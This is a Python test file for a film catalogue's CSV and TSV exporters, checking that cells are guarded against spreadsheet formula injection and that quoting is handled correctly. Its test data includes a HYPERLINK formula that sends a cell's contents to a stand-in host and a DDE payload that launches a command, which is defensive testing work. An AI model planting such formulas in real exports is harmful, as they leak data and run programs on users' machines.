"""Comma- and tab-separated values: what a spreadsheet would run, and what a quotation mark does."""

import csv as reader
import io
from typing import Any, Final

import pytest

from countdown.core.release import Credit
from countdown.formats import csv, tsv
from countdown.views.listing import listing
from countdown.views.view import View
from tests.views.releases import CONTEXT, film, outlook_of

RAW: Final = CONTEXT._replace(raw=True)
FORMULAS: Final = (
    '=HYPERLINK("http://x.example/?"&A1,"Dune 3")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-Dash",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)


def view_of(title: str, *, raw: bool = False, **keys: Any) -> View:
    """The list of one film."""
    return listing([outlook_of(film(title, id="x")._replace(**keys))], RAW if raw else CONTEXT)


def row(text: str, delimiter: str = ",") -> dict[str, str]:
    """The one row of *text*; of tsv without a special meaning of quotation marks."""
    lines = io.StringIO(text)
    if delimiter == "\t":
        (cells,) = reader.DictReader(lines, delimiter=delimiter, quoting=reader.QUOTE_NONE)
    else:
        (cells,) = reader.DictReader(lines)
    return cells


@pytest.mark.parametrize("title", FORMULAS)
def test_formula_is_text_behind_an_apostrophe(title: str) -> None:
    """In each column of both formats; raw cells are what the catalogue has."""
    for module, delimiter in ((csv, ","), (tsv, "\t")):
        cells = row(module.render(view_of(title, synopsis=title)), delimiter)
        raw = row(module.render(view_of(title, synopsis=title, raw=True)), delimiter)
        assert [cells["title"][0], cells["synopsis"][0]] == ["'", "'"]
        assert cells["title"].replace("'", "") == title.replace("'", "")
        assert [raw["title"], raw["synopsis"]] == [title, title]


def test_each_name_of_a_list_is_guarded() -> None:
    """Spreadsheets of half the world cut a line at semicolons."""
    cast = (Credit("+1 (Artist)"), Credit("Zendaya"), Credit("@handle"), Credit("-Dash"))
    cells = row(csv.render(view_of("Dune;=1+1", cast=cast, aliases=("A,=1", "B - C", "D,E;F"))))
    assert cells["cast"] == "'+1 (Artist); Zendaya; '@handle; '-Dash"
    assert cells["title"] == "Dune;'=1+1"
    assert cells["aliases"] == "A,'=1; B - C; D,E;F"


def test_numbers_and_dates_are_no_text() -> None:
    """Days that are past are negative numbers, for a formula to count with."""
    window = listing([outlook_of(film("A", "2022-07"))], CONTEXT)
    assert ",2022-07,2022-07-01,2022-07-31,month,,,,,-3,27," in csv.render(window)
    assert "\t-3\t27\t" in tsv.render(window)


def test_tsv_has_no_quotes_around_values() -> None:
    """For cut and awk a quotation mark is a letter."""
    title = 'The "Best", Film'
    assert f"x\t{title}\tfilm\t" in tsv.render(view_of(title))
    assert row(csv.render(view_of(title)))["title"] == title


def test_quotation_mark_at_the_start_opens_no_cell_of_tsv() -> None:
    """A spreadsheet would read on to the next one, over tabs and line ends."""
    for title in ('"Unclosed', '"=1+1"'):
        assert row(tsv.render(view_of(title)), "\t")["title"] == f"'{title}"
        assert row(tsv.render(view_of(title, raw=True)), "\t")["title"] == title
        assert row(csv.render(view_of(title, raw=True)))["title"] == title
